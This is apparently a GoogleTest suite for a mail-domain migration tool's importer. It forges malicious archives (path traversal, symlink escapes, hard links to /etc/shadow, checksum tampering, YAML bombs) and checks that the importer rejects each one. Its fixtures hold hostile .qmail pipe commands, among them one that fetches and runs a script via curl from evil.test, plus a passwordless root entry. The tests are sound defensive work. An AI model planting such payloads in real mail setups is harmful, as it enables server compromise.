// The hostile and corrupt archive corpus. Every case starts from a real
// export of real-small's example.com, forges exactly one fault with
// archive_forge.h (checksums.txt recomputed, so only the intended fault is
// present) and imports it into an empty target. Each must be rejected with
// the documented exit code (6, bad archive; 5 where the honest answer is a
// conflict), ONE line on stderr naming the entry or field and the reason,
// nothing (or a JSON error) on stdout, no staging directory left and the
// whole target tree byte-identical, mtimes included.
#include <sys/stat.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <memory>
#include <random>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "cli/cli_fixture.h"
#include "hostile/archive_forge.h"
#include "support/test_support.h"

namespace vmigrate::testing::hostile {
namespace {

using cli::DigestDiff;
using cli::Import;
using cli::MakeEmptyTarget;
using cli::StagingLeftovers;

constexpr const char* kDomain = "example.com";
constexpr const char* kFiles = "domains/example.com/files";
constexpr const char* kUsers = "domains/example.com/users";

// Adds `x` right after the domain directory member (before the first
// original member behind it), so the importer meets the fault early and the
// suite stays fast; successive adds keep their order.
void Add(Members& m, const Member& x) {
  size_t at = IndexOf(m, kFiles) + 1;
  while (at < m.size() && m[at].forged) ++at;
  Member y = x;
  y.forged = true;
  m.insert(m.begin() + static_cast<std::ptrdiff_t>(at), y);
}

// The first `n` lines of a (possibly huge) digest diff.
std::string Head(const std::string& text, size_t n) {
  size_t pos = 0;
  for (size_t i = 0; i < n && pos != std::string::npos; ++i) {
    pos = text.find('\n', pos);
    if (pos != std::string::npos) ++pos;
  }
  return pos == std::string::npos || pos >= text.size() ? text : text.substr(0, pos) + "...\n";
}

class HostileArchiveTest : public ::testing::Test {
 protected:
  // One real export for the whole suite: the source of every forgery.
  static void SetUpTestSuite() {
    source_ = new TempDir();
    UnpackFixture("real-small", source_->path());
    std::string out = *source_ / "example.com.vma";
    CommandResult r = cli::Export(source_->path(), kDomain, out, {"--compress", "none"});
    ASSERT_EQ(r.exit_code, 0) << r.err;
    base_ = new Members(ReadMembers(out));
  }
  static void TearDownTestSuite() {
    delete base_;
    base_ = nullptr;
    delete source_;
    source_ = nullptr;
  }

  void SetUp() override {
    ASSERT_NE(base_, nullptr) << "the suite's export failed";
    MakeEmptyTarget(dst_.path());
  }

  Members Base() const { return *base_; }

  // `members` with checksums.txt recomputed, written to a fresh file.
  std::string Forge(const Members& members, Forged how = Forged::kNone) {
    std::string path = work_ / ("forged-" + std::to_string(++count_) + ".vma");
    WriteArchive(path, WithChecksums(members), how);
    return path;
  }
  // `members` exactly as given (the caller controls checksums.txt).
  std::string ForgeAsIs(const Members& members, Forged how = Forged::kNone) {
    std::string path = work_ / ("forged-" + std::to_string(++count_) + ".vma");
    WriteArchive(path, members, how);
    return path;
  }
  std::string ForgeBytes(const std::string& bytes) {
    std::string path = work_ / ("forged-" + std::to_string(++count_) + ".vma");
    WriteFile(path, bytes);
    return path;
  }
  // The manifest with `from` replaced by `to` (which must occur).
  std::string ForgeManifestEdit(const std::string& from, const std::string& to, bool all = false) {
    Members m = Base();
    std::string& text = ManifestText(m);
    if (all) {
      text = Replace(text, from, to);
    } else {
      size_t at = text.find(from);
      if (at == std::string::npos) throw std::runtime_error("manifest has no '" + from + "'");
      text.replace(at, from.size(), to);
    }
    return Forge(m);
  }
  // The manifest text replaced as a whole.
  std::string ForgeManifest(const std::string& text) {
    Members m = Base();
    ManifestText(m) = text;
    return Forge(m);
  }
  // Renames user `from` in the manifest and in every member path.
  std::string ForgeUserName(const std::string& from, const std::string& to) {
    Members m = Base();
    std::string& text = ManifestText(m);
    text = Replace(text, "- name: \"" + from + "\"", "- name: " + YamlQuote(to));
    if (to.find('\0') == std::string::npos)
      RenamePathPrefix(m, std::string(kUsers) + "/" + from, std::string(kUsers) + "/" + to);
    return Forge(m);
  }
  // Renames the domain in the manifest and in every member path.
  std::string ForgeDomainName(const std::string& to) {
    Members m = Base();
    std::string& text = ManifestText(m);
    text = Replace(text, "- name: \"example.com\"", "- name: " + YamlQuote(to));
    if (to.find('\0') == std::string::npos)
      RenamePathPrefix(m, "domains/example.com", "domains/" + to);
    return Forge(m);
  }
  // One field of user judy (no rewritten files, no placeholders).
  std::string ForgeJudyField(const std::string& key, const std::string& old_value,
                             const std::string& value) {
    return ForgeManifestEdit(key + ": \"" + old_value + "\"", key + ": " + YamlQuote(value), false);
  }

  struct Outcome {
    CommandResult result;
    double seconds = 0;
  };

  // Imports `archive` (a file, or "-" with `stdin_file`) and checks every
  // promise of the requirement. `needles` must all appear in the error line.
  // Imports `archive`: exit 0, the account `name` in the target's vpasswd
  // and a warning on stderr naming it and `why`.
  void ExpectImportedWithWarning(const std::string& archive, const std::string& name,
                                 const std::string& why) {
    CommandResult r = Import(dst_.path(), archive);
    ASSERT_EQ(r.exit_code, 0) << r.err;
    EXPECT_NE(r.err.find("warning: example.com: user '" + name + "': "), std::string::npos) << r.err;
    EXPECT_NE(r.err.find(why), std::string::npos) << r.err;
    auto vpasswd = "\n" + ReadFile(cli::TargetHomeDisk(dst_.path()) + "/domains/example.com/vpasswd");
    EXPECT_NE(vpasswd.find("\n" + name + ":"), std::string::npos) << vpasswd;
  }

  Outcome ExpectRejected(const std::string& archive, const std::vector<std::string>& needles,
                         int exit_code = 6, const std::string& stdin_file = "",
                         double max_seconds = 10.0, const std::vector<std::string>& extra = {}) {
    auto before = TreeDigest(dst_.path());
    auto start = std::chrono::steady_clock::now();
    CommandResult r = Import(dst_.path(), archive, extra, stdin_file);
    double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    SCOPED_TRACE("stderr: " + r.err);
    RecordProperty("stderr", r.err);
    RecordProperty("exit_code", r.exit_code);
    EXPECT_EQ(r.exit_code, exit_code);
    EXPECT_LT(seconds, max_seconds) << "rejecting took too long";
    // Exactly one line on stderr, naming the entry or field and the reason.
    EXPECT_FALSE(r.err.empty());
    EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << "stderr must be ONE line";
    EXPECT_TRUE(!r.err.empty() && r.err.back() == '\n');
    EXPECT_EQ(r.err.rfind("vmigrate: import: ", 0), 0u);
    for (const auto& n : needles)
      EXPECT_NE(r.err.find(n), std::string::npos) << "error does not mention '" << n << "'";
    if (std::find(extra.begin(), extra.end(), "--json") == extra.end()) {
      EXPECT_EQ(r.out, "") << "stdout must stay empty";
    }
    EXPECT_TRUE(StagingLeftovers(dst_.path()).empty());
    EXPECT_EQ(Head(DigestDiff(before, TreeDigest(dst_.path())), 8), "") << "the target changed";
    return {r, seconds};
  }

  static TempDir* source_;
  static Members* base_;
  TempDir dst_, work_;
  int count_ = 0;
};

TempDir* HostileArchiveTest::source_ = nullptr;
Members* HostileArchiveTest::base_ = nullptr;

std::string F(const std::string& rel) { return std::string(kFiles) + "/" + rel; }
std::string U(const std::string& rel) { return std::string(kUsers) + "/" + rel; }

// A "billion laughs" document: 10 levels, each a list of ten aliases of the
// level below (10^9 leaves if expanded).
std::string BillionLaughs(const std::string& top_key, const std::string& indent) {
  std::string y = indent + "lol0: &l0 \"lol\"\n";
  for (int i = 1; i <= 9; ++i) {
    y += indent + "lol" + std::to_string(i) + ": &l" + std::to_string(i) + " [";
    for (int k = 0; k < 10; ++k) y += std::string(k ? ", " : "") + "*l" + std::to_string(i - 1);
    y += "]\n";
  }
  return y + indent + top_key + ": *l9\n";
}

// ---------------------------------------------------------------- paths ---

TEST_F(HostileArchiveTest, AbsolutePathIsRejected) {
  Members m = Base();
  Add(m, File("/" + F("abs-evil"), "x\n"));
  ExpectRejected(Forge(m), {"/" + F("abs-evil"), "absolute path"});
}

TEST_F(HostileArchiveTest, AbsolutePathToAHostFileIsRejected) {
  Members m = Base();
  std::string victim = work_ / "victim";
  Add(m, File(victim, "overwritten\n"));
  ExpectRejected(Forge(m), {"victim", "absolute path"});
  EXPECT_FALSE(std::filesystem::exists(victim));
}

TEST_F(HostileArchiveTest, DotDotComponentInDomainFilesIsRejected) {
  Members m = Base();
  Add(m, File(F("../../../../escaped"), "x\n"));
  ExpectRejected(Forge(m), {"files/../../../../escaped", "'..'"});
}

TEST_F(HostileArchiveTest, DotDotComponentInAUserTreeIsRejected) {
  Members m = Base();
  Add(m, File(U("alice/../bob/Maildir/new/injected"), "x\n"));
  ExpectRejected(Forge(m), {"alice/../bob", "'..'"});
}

TEST_F(HostileArchiveTest, TrailingDotDotComponentIsRejected) {
  Members m = Base();
  Add(m, Dir(U("alice/Maildir/..")));
  ExpectRejected(Forge(m), {"alice/Maildir/..", "'..'"});
}

TEST_F(HostileArchiveTest, DotComponentIsRejected) {
  Members m = Base();
  Add(m, File(F("./dotted"), "x\n"));
  ExpectRejected(Forge(m), {"files/./dotted", "'.' component"});
}

TEST_F(HostileArchiveTest, EmptyPathComponentIsRejected) {
  Members m = Base();
  Add(m, File(F("a//b"), "x\n"));
  ExpectRejected(Forge(m), {"files/a//b", "empty path component"});
}

TEST_F(HostileArchiveTest, BackslashInPathIsRejected) {
  Members m = Base();
  Add(m, File(F("..\\..\\evil"), "x\n"));
  ExpectRejected(Forge(m), {"evil", "backslash"});
}

TEST_F(HostileArchiveTest, PathLongerThan4096BytesIsRejected) {
  Members m = Base();
  std::string deep;
  while (deep.size() < 4200) deep += "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/";
  Add(m, File(F(deep + "x"), "x\n"));
  ExpectRejected(Forge(m), {"longer than 4096"});
}

TEST_F(HostileArchiveTest, EntryOutsideTheManifestDomainIsRejected) {
  Members m = Base();
  Add(m, File("domains/example.net/files/.qmail-default", "| /bin/sh -c reboot\n"));
  ExpectRejected(Forge(m), {"domains/example.net/files/.qmail-default", "outside the domain"});
}

TEST_F(HostileArchiveTest, TopLevelEntryBesidesManifestIsRejected) {
  Members m = Base();
  InsertAfter(m, "manifest.yaml", {File("README", "hello\n")});
  ExpectRejected(Forge(m), {"'README'", "outside the domain"});
}

TEST_F(HostileArchiveTest, EntryOfAUserTheManifestDoesNotListIsRejected) {
  Members m = Base();
  Add(m, Dir(U("mallet")));
  Add(m, File(U("mallet/.qmail"), "|/bin/sh -c id\n"));
  ExpectRejected(Forge(m), {U("mallet"), "does not list"});
}

TEST_F(HostileArchiveTest, DomainFileLandingInAUserHomeIsRejected) {
  Members m = Base();
  InsertAfter(m, F(".qmailadmin-limits"), {File(F("alice/.qmail"), "&attacker@evil.test\n")});
  ExpectRejected(Forge(m), {F("alice/.qmail"), "home of user alice"});
}

// The hard case: a symlink to a directory outside the target, then a file
// "inside" it. Nothing may be written through the link.
TEST_F(HostileArchiveTest, FileThroughASymlinkEscapingTheDomainIsRejected) {
  std::string outside = work_ / "outside-etc";
  std::filesystem::create_directories(outside);
  WriteFile(outside + "/passwd", "root:x:0:0:root:/root:/bin/sh\n");
  auto outside_before = TreeDigest(outside);
  Members m = Base();
  InsertAfter(m, kFiles, {Symlink(F("evil"), outside), File(F("evil/passwd"), "root::0:0::/:/bin/sh\n")});
  ExpectRejected(Forge(m), {F("evil/passwd"), "symlink"});
  EXPECT_EQ(DigestDiff(outside_before, TreeDigest(outside)), "") << "written through the symlink";
  EXPECT_EQ(ReadFile(outside + "/passwd"), "root:x:0:0:root:/root:/bin/sh\n");
}

TEST_F(HostileArchiveTest, DirectoryThroughASymlinkInAUserHomeIsRejected) {
  std::string outside = work_ / "outside-maildir";
  std::filesystem::create_directories(outside);
  auto outside_before = TreeDigest(outside);
  Members m = Base();
  Add(m, Symlink(U("judy/Spool"), outside));
  Add(m, Dir(U("judy/Spool/new")));
  Add(m, File(U("judy/Spool/new/1.msg"), "Subject: x\n\nx\n"));
  ExpectRejected(Forge(m), {U("judy/Spool/new"), "symlink"});
  EXPECT_EQ(DigestDiff(outside_before, TreeDigest(outside)), "");
}

TEST_F(HostileArchiveTest, SymlinkListedTwiceIsRejected) {
  Members m = Base();
  Add(m, Symlink(F("twice"), "a"));
  Add(m, Symlink(F("twice"), "b"));
  ExpectRejected(Forge(m), {F("twice"), "appears twice"});
}

TEST_F(HostileArchiveTest, SymlinkAndFileWithTheSamePathAreRejected) {
  Members m = Base();
  Add(m, Symlink(F("same"), "/etc/passwd"));
  Add(m, File(F("same"), "x\n"));
  ExpectRejected(Forge(m), {F("same"), "twice"});
}

TEST_F(HostileArchiveTest, SymlinkOverADirectoryEntryIsRejected) {
  Members m = Base();
  Add(m, Dir(F("listdir")));
  Add(m, Symlink(F("listdir"), "/etc"));
  ExpectRejected(Forge(m), {F("listdir"), "twice"});
}

TEST_F(HostileArchiveTest, FileThenDirectoryWithTheSamePathIsRejected) {
  Members m = Base();
  Add(m, File(F("both"), "x\n"));
  Add(m, Dir(F("both")));
  ExpectRejected(Forge(m), {F("both"), "twice"});
}

TEST_F(HostileArchiveTest, DirectoryListedTwiceIsRejected) {
  Members m = Base();
  Add(m, Dir(F("dup-dir")));
  Add(m, Dir(F("dup-dir")));
  ExpectRejected(Forge(m), {F("dup-dir"), "appears twice"});
}

TEST_F(HostileArchiveTest, SymlinkWithAnEmptyTargetIsRejected) {
  Members m = Base();
  Add(m, Symlink(F("empty-link"), ""));
  ExpectRejected(Forge(m), {F("empty-link"), "empty symlink target"});
}

// A home replaced by a link out of the domain: vdelivermail would then
// deliver (as vpopmail) wherever the link points.
TEST_F(HostileArchiveTest, UserHomeThatIsASymlinkOutOfTheDomainIsRejected) {
  std::string outside = work_ / "outside-home";
  std::filesystem::create_directories(outside);
  Members m = Base();
  Members kept;
  for (auto& x : m)
    if (x.path.rfind(U("judy/"), 0) != 0) kept.push_back(x);
  *Find(kept, U("judy")) = Symlink(U("judy"), outside);
  ExpectRejected(Forge(kept), {U("judy"), "symlink"});
}

// ---------------------------------------------------------- entry types ---

TEST_F(HostileArchiveTest, HardLinkIsRejected) {
  Members m = Base();
  Add(m, Special(F("hardlink"), 'h', F(".qmail-default")));
  ExpectRejected(Forge(m), {F("hardlink"), "hard link"});
}

TEST_F(HostileArchiveTest, HardLinkToAHostFileIsRejected) {
  Members m = Base();
  Add(m, Special(F("shadow"), 'h', "/etc/shadow"));
  ExpectRejected(Forge(m), {F("shadow"), "hard link"});
}

TEST_F(HostileArchiveTest, CharacterDeviceIsRejected) {
  Members m = Base();
  Add(m, Special(F("null"), 'c'));
  ExpectRejected(Forge(m), {F("null"), "device, FIFO or socket"});
}

TEST_F(HostileArchiveTest, BlockDeviceIsRejected) {
  Members m = Base();
  Add(m, Special(U("alice/sda"), 'b'));
  ExpectRejected(Forge(m), {U("alice/sda"), "device, FIFO or socket"});
}

TEST_F(HostileArchiveTest, FifoIsRejected) {
  Members m = Base();
  Add(m, Special(U("bob/Maildir/new/fifo"), 'p'));
  ExpectRejected(Forge(m), {U("bob/Maildir/new/fifo"), "device, FIFO or socket"});
}

// tar has no socket type: libarchive's pax writer refuses AE_IFSOCK (checked
// here) and its reader never yields one. What a stream can carry instead is
// a type flag vmigrate does not know, which libarchive reports as neither
// file, directory nor link ('M', a GNU multi-volume continuation): it must
// be refused like a socket.
TEST_F(HostileArchiveTest, SocketOrOtherUnsupportedEntryTypeIsRejected) {
  {
    std::string sink;
    struct archive* a = archive_write_new();
    archive_write_set_format_pax(a);
    archive_write_add_filter_none(a);
    archive_write_open(a, &sink, nullptr, detail::AppendCallback, nullptr);
    struct archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, "sock");
    archive_entry_set_filetype(e, AE_IFSOCK);
    EXPECT_LT(archive_write_header(a, e), ARCHIVE_WARN) << "tar unexpectedly archives a socket";
    archive_entry_free(e);
    archive_write_free(a);
  }
  Members m = Base();
  Member odd = Special(F("sock"), 'o');
  odd.raw_flag = 'M';
  Add(m, odd);
  ExpectRejected(Forge(m), {F("sock"), "device, FIFO or socket"});
}

TEST_F(HostileArchiveTest, DuplicateFileEntryIsRejected) {
  Members m = Base();
  Add(m, File(F(".qmail-default"), "| /bin/sh -c 'curl evil.test | sh'\n"));
  ExpectRejected(Forge(m), {F(".qmail-default"), "appears twice"});
}

TEST_F(HostileArchiveTest, DomainDirectoryAsARegularFileIsRejected) {
  Members m = Base();
  *Find(m, kFiles) = File(kFiles, "not a directory\n");
  ExpectRejected(Forge(m), {kFiles});
}

// ------------------------------------------------- index and the stream ---

TEST_F(HostileArchiveTest, MemberNotListedInChecksumsIsRejected) {
  Members m = Base();
  Member extra = File(F(".qmail-backdoor"), "| /bin/sh\n");
  extra.listed = false;
  Add(m, extra);
  ExpectRejected(Forge(m), {F(".qmail-backdoor"), "checksums.txt"});
}

TEST_F(HostileArchiveTest, MemberNotListedInChecksumsAtTheEndIsRejected) {
  Members m = Base();
  Member extra = File(U("postmaster/.qmail"), "| /bin/sh\n");
  extra.listed = false;
  Append(m, extra);
  ExpectRejected(Forge(m), {U("postmaster/.qmail"), "not listed in checksums.txt"});
}

TEST_F(HostileArchiveTest, ChecksumsLineWithoutItsMemberAtTheEndIsRejected) {
  Members m = WithChecksums(Base());
  // Drop the last data member but keep its checksums.txt line.
  Member dropped = m[m.size() - 2];
  m.erase(m.end() - 2);
  ExpectRejected(ForgeAsIs(m), {dropped.path, "missing from the stream"});
}

TEST_F(HostileArchiveTest, ChecksumsLineWithoutItsMemberInTheMiddleIsRejected) {
  Members m = WithChecksums(Base());
  size_t at = IndexOf(m, F(".qmail-info"));
  m.erase(m.begin() + static_cast<std::ptrdiff_t>(at));
  ExpectRejected(ForgeAsIs(m), {".qmail-info", "checksums.txt"});
}

// The manifest lists judy with home_present: true, but the stream (and the
// index) carry nothing of her home: the manifest must not be trusted.
TEST_F(HostileArchiveTest, ManifestUserWhoseHomeIsMissingFromTheStreamIsRejected) {
  Members m = Base();
  Members kept;
  for (auto& x : m)
    if (x.path != U("judy") && x.path.rfind(U("judy/"), 0) != 0) kept.push_back(x);
  ExpectRejected(Forge(kept), {"judy", "missing"});
}

// rewritten_files names files/.qmail-archive, which the stream lacks.
TEST_F(HostileArchiveTest, RewrittenFileMissingFromTheStreamIsRejected) {
  Members m = Base();
  m.erase(m.begin() + static_cast<std::ptrdiff_t>(IndexOf(m, F(".qmail-archive"))));
  ExpectRejected(Forge(m), {".qmail-archive", "missing"});
}

TEST_F(HostileArchiveTest, ChecksumMismatchIsRejected) {
  Members m = WithChecksums(Base());
  Member* msg = nullptr;
  for (auto& x : m)
    if (x.path.find("/Maildir/cur/") != std::string::npos && x.type == 'f') msg = &x;
  ASSERT_NE(msg, nullptr);
  msg->data[msg->data.size() / 2] ^= 0x20;  // same size, other bytes
  ExpectRejected(ForgeAsIs(m), {msg->path, "checksum mismatch"});
}

TEST_F(HostileArchiveTest, SizeMismatchIsRejected) {
  Members m = WithChecksums(Base());
  Member* info = Find(m, F(".qmail-info"));
  std::string line = ChecksumsLine(*info);
  std::string size = std::to_string(info->data.size());
  std::string forged = Replace(line, " " + size + " ", " " + std::to_string(info->data.size() + 1) + " ");
  m.back().data = Replace(m.back().data, line, forged);
  ExpectRejected(ForgeAsIs(m), {F(".qmail-info"), "size mismatch"});
}

TEST_F(HostileArchiveTest, ModeMismatchIsRejected) {
  Members m = Base();
  Find(m, F(".qmail-info"))->mode = 04755;  // setuid in the stream
  Members w = WithChecksums(m);
  Member listed = *Find(w, F(".qmail-info"));
  listed.mode = 0600;
  w.back().data = Replace(w.back().data, ChecksumsLine(*Find(w, F(".qmail-info"))), ChecksumsLine(listed));
  ExpectRejected(ForgeAsIs(w), {F(".qmail-info"), "mode, mtime or type differs"});
}

TEST_F(HostileArchiveTest, UnknownChecksumsHeaderIsRejected) {
  Members m = WithChecksums(Base());
  m.back().data = Replace(m.back().data, "# vmigrate checksums 1\n", "# vmigrate checksums 2\n");
  ExpectRejected(ForgeAsIs(m), {"checksums.txt", "unknown header"});
}

TEST_F(HostileArchiveTest, MalformedChecksumsLineIsRejected) {
  Members m = WithChecksums(Base());
  std::string line = ChecksumsLine(*Find(m, F(".qmail-info")));
  std::string bad = line;
  bad.replace(bad.find(Sha256::Of(Find(m, F(".qmail-info"))->data)), 64, "not-a-sha256");
  m.back().data = Replace(m.back().data, line, bad);
  ExpectRejected(ForgeAsIs(m), {"checksums.txt", "bad sha256"});
}

TEST_F(HostileArchiveTest, StreamWithoutChecksumsIsRejectedAsTruncated) {
  Members m = Base();
  m.pop_back();  // checksums.txt
  ExpectRejected(ForgeAsIs(m), {"truncated", "checksums.txt is missing"});
}

TEST_F(HostileArchiveTest, EntryAfterChecksumsIsRejected) {
  Members m = WithChecksums(Base());
  m.push_back(File(F(".qmail-late"), "| /bin/sh\n"));
  ExpectRejected(ForgeAsIs(m), {F(".qmail-late"), "follows checksums.txt"});
}

TEST_F(HostileArchiveTest, ManifestThatIsNotTheFirstEntryIsRejected) {
  Members m = Base();
  std::swap(m[0], m[1]);
  ExpectRejected(Forge(m), {kFiles, "not manifest.yaml"});
}

TEST_F(HostileArchiveTest, ManifestAsADirectoryIsRejected) {
  Members m = Base();
  m.insert(m.begin(), Dir("manifest.yaml"));
  m.erase(m.begin() + 1);
  ExpectRejected(Forge(m), {"manifest.yaml"});
}

// ------------------------------------------ truncation, garbage, sizes ---

TEST_F(HostileArchiveTest, StreamCutInTheMiddleOfAMessageIsRejected) {
  Members m = WithChecksums(Base());
  std::string tar = TarStream(m);
  // Cut inside the data of the largest message.
  const Member* big = nullptr;
  for (const auto& x : m)
    if (x.type == 'f' && x.path.find("/Maildir/") != std::string::npos && (!big || x.data.size() > big->data.size()))
      big = &x;
  ASSERT_NE(big, nullptr);
  size_t at = tar.find(big->data.substr(0, 64));
  ASSERT_NE(at, std::string::npos);
  std::string last = big->path.substr(big->path.rfind('/') + 1);
  ExpectRejected(ForgeBytes(tar.substr(0, at + big->data.size() / 2)), {last, "truncated"});
}

TEST_F(HostileArchiveTest, GzipStreamCutShortIsRejected) {
  std::string gz = Compress(TarStream(WithChecksums(Base())), Forged::kGzip);
  ExpectRejected(ForgeBytes(gz.substr(0, gz.size() * 3 / 4)), {"truncated"});
}

TEST_F(HostileArchiveTest, ZstdStreamCutShortIsRejected) {
  std::string zs = Compress(TarStream(WithChecksums(Base())), Forged::kZstd);
  ExpectRejected(ForgeBytes(zs.substr(0, zs.size() * 3 / 4)), {"runcated"});
}

TEST_F(HostileArchiveTest, GarbageBytesAreRejected) {
  std::mt19937 rng(20261123);
  std::string junk(64 * 1024, '\0');
  for (auto& c : junk) c = static_cast<char>(rng() & 0xff);
  ExpectRejected(ForgeBytes(junk), {"not a vmigrate archive"});
}

TEST_F(HostileArchiveTest, GarbageInPlaceOfATarHeaderIsRejected) {
  Members m = WithChecksums(Base());
  size_t at = IndexOf(m, F(".qmailadmin-limits"));
  Members head(m.begin(), m.begin() + static_cast<std::ptrdiff_t>(at));
  Members tail(m.begin() + static_cast<std::ptrdiff_t>(at), m.end());
  std::mt19937 rng(7);
  std::string junk(1536, '\0');
  for (auto& c : junk) c = static_cast<char>(rng() & 0xff);
  std::string bytes = TarStream(head, false) + junk + TarStream(tail);
  ExpectRejected(ForgeBytes(bytes), {"corrupt"});
}

TEST_F(HostileArchiveTest, GzipStreamWithFlippedBytesIsRejected) {
  std::string gz = Compress(TarStream(WithChecksums(Base())), Forged::kGzip);
  for (size_t i = gz.size() / 2; i < gz.size() / 2 + 16; ++i) gz[i] = static_cast<char>(gz[i] ^ 0x5a);
  ExpectRejected(ForgeBytes(gz), {});
}

TEST_F(HostileArchiveTest, EmptyFileIsRejected) {
  ExpectRejected(ForgeBytes(""), {"empty"});
}

TEST_F(HostileArchiveTest, EmptyStdinIsRejected) {
  ExpectRejected("-", {"empty"}, 6, ForgeBytes(""));
}

TEST_F(HostileArchiveTest, OnlyEndOfArchiveBlocksAreRejected) {
  ExpectRejected(ForgeBytes(std::string(10240, '\0')), {"empty"});
}

// A member whose header claims a terabyte, followed by 64 KiB and the end
// of the stream: must fail fast, without allocating or writing 1 TB.
TEST_F(HostileArchiveTest, HugeClaimedMemberSizeFailsQuickly) {
  Members m = Base();
  Members head(m.begin(), m.begin() + static_cast<std::ptrdiff_t>(IndexOf(m, kFiles) + 1));
  std::string bytes = TarStream(head, false) +
                      RawUstarHeader(F("huge"), '0', 0600, 1ull << 40, 1795424447) +
                      std::string(64 * 1024, 'A');
  auto o = ExpectRejected(ForgeBytes(bytes), {F("huge"), "truncated"}, 6, "", 5.0);
  (void)o;
}

TEST_F(HostileArchiveTest, HugeClaimedManifestSizeFailsQuickly) {
  std::string bytes = RawUstarHeader("manifest.yaml", '0', 0600, 1ull << 40, 1795424447) +
                      Pad512("format_version: 1\n");
  ExpectRejected(ForgeBytes(bytes), {"manifest.yaml", "1099511627776"}, 6, "", 5.0);
}

// ------------------------------------------------------ manifest: YAML ---

TEST_F(HostileArchiveTest, NewerFormatVersionIsRejected) {
  ExpectRejected(ForgeManifestEdit("format_version: 1\n", "format_version: 2\n"),
                 {"manifest format 2 is newer than this vmigrate"});
}

TEST_F(HostileArchiveTest, FormatVersionZeroIsRejected) {
  ExpectRejected(ForgeManifestEdit("format_version: 1\n", "format_version: 0\n"),
                 {"manifest format 0 is not a format this vmigrate reads"});
}

TEST_F(HostileArchiveTest, NonIntegerFormatVersionIsRejected) {
  ExpectRejected(ForgeManifestEdit("format_version: 1\n", "format_version: 1.5\n"),
                 {"format_version", "integer"});
}

TEST_F(HostileArchiveTest, OverflowingFormatVersionIsRejected) {
  ExpectRejected(ForgeManifestEdit("format_version: 1\n", "format_version: 18446744073709551617\n"),
                 {"format_version"});
}

TEST_F(HostileArchiveTest, MissingFormatVersionIsRejected) {
  ExpectRejected(ForgeManifestEdit("format_version: 1\n", ""), {"format_version is missing"});
}

TEST_F(HostileArchiveTest, UnknownKindIsRejected) {
  ExpectRejected(ForgeManifestEdit("kind: \"domain\"", "kind: \"mailbox\""),
                 {"archive kind 'mailbox'", "not supported"});
  // A delta must say which state it is based on.
  ExpectRejected(ForgeManifestEdit("kind: \"domain\"", "kind: \"delta\""), {"delta must be a mapping"});
}

TEST_F(HostileArchiveTest, ServerKindWithoutServerFilesIsRejected) {
  ExpectRejected(ForgeManifestEdit("kind: \"domain\"", "kind: \"server\""), {"server_files"});
}

// A server archive (import --all) carries config files under server/: only
// the ones its manifest lists, only names vmigrate knows, only plain files.
std::string ServerManifest(Members& m, const std::string& files) {
  std::string& text = ManifestText(m);
  text = Replace(text, "kind: \"domain\"", "kind: \"server\"");
  text += "server_files: [" + files + "]\n";
  return text;
}

TEST_F(HostileArchiveTest, ServerFileTheManifestDoesNotListIsRejected) {
  Members m = Base();
  ServerManifest(m, "qmail/control/me");
  Add(m, File("server/qmail/control/me", "evil.test\n"));
  Add(m, File("server/qmail/control/rcpthosts", "*\n"));
  ExpectRejected(Forge(m), {"server/qmail/control/rcpthosts", "not a server file"}, 6, "", 10.0, {"--all"});
}

TEST_F(HostileArchiveTest, ServerFileOutsideTheKnownSetIsRejected) {
  Members m = Base();
  ServerManifest(m, "qmail/control/me");
  Add(m, File("server/etc/passwd", "root::0:0::/:/bin/sh\n"));
  ExpectRejected(Forge(m), {"server/etc/passwd", "not a server file"}, 6, "", 10.0, {"--all"});
}

TEST_F(HostileArchiveTest, ServerFileAsASymlinkIsRejected) {
  Members m = Base();
  ServerManifest(m, "qmail/control/me");
  Add(m, Symlink("server/qmail/control/me", "/etc/shadow"));
  ExpectRejected(Forge(m), {"server/qmail/control/me", "regular file"}, 6, "", 10.0, {"--all"});
}

TEST_F(HostileArchiveTest, ServerFileTwiceIsRejected) {
  Members m = Base();
  ServerManifest(m, "qmail/control/me");
  Add(m, File("server/qmail/control/me", "a.test\n"));
  Add(m, File("server/qmail/control/me", "b.test\n"));
  ExpectRejected(Forge(m), {"server/qmail/control/me", "twice"}, 6, "", 10.0, {"--all"});
}

TEST_F(HostileArchiveTest, YamlListInsteadOfAMappingIsRejected) {
  ExpectRejected(ForgeManifest("- format_version: 1\n- kind: domain\n"), {"not a YAML mapping"});
}

TEST_F(HostileArchiveTest, YamlScalarInsteadOfAMappingIsRejected) {
  ExpectRejected(ForgeManifest("just a string\n"), {"not a YAML mapping"});
}

TEST_F(HostileArchiveTest, EmptyManifestIsRejected) {
  ExpectRejected(ForgeManifest(""), {"manifest"});
}

TEST_F(HostileArchiveTest, InvalidYamlSyntaxIsRejected) {
  ExpectRejected(ForgeManifestEdit("domains:\n", "domains: [\n"), {"not valid YAML"});
}

TEST_F(HostileArchiveTest, BinaryGarbageManifestIsRejected) {
  std::string junk = "\x01\x02\xff\xfe{[\"\x00\x9f";
  ExpectRejected(ForgeManifest(junk + std::string(1, '\0') + "\xc3\x28"), {"manifest"});
}

TEST_F(HostileArchiveTest, DomainsAsAMappingIsRejected) {
  ExpectRejected(ForgeManifestEdit("domains:\n  - name:", "domains:\n  x:\n    name:"),
                 {"domains must be a list"});
}

TEST_F(HostileArchiveTest, UserNameAsAListIsRejected) {
  ExpectRejected(ForgeManifestEdit("- name: \"judy\"", "- name: [\"judy\", \"root\"]"),
                 {"name must be a string"});
}

TEST_F(HostileArchiveTest, DomainUidAsAStringIsRejected) {
  ExpectRejected(ForgeManifestEdit("    uid: 89\n", "    uid: \"eighty-nine\"\n"),
                 {"domains[0].uid", "integer"});
}

TEST_F(HostileArchiveTest, NegativeMessageCountIsRejected) {
  ExpectRejected(ForgeManifestEdit("messages: 6\n", "messages: -6\n"),
                 {"users[0].messages", "non-negative integer"});
}

TEST_F(HostileArchiveTest, HomePresentThatIsNotABooleanIsRejected) {
  ExpectRejected(ForgeManifestEdit("home_present: true", "home_present: \"maybe\""),
                 {"home_present must be true or false"});
}

TEST_F(HostileArchiveTest, MissingQuotaIsRejected) {
  ExpectRejected(ForgeManifestEdit("        quota: \"5000000S,1000C\"\n", ""),
                 {"users[0].quota is missing"});
}

TEST_F(HostileArchiveTest, TwoDomainsInADomainArchiveAreRejected) {
  Members m = Base();
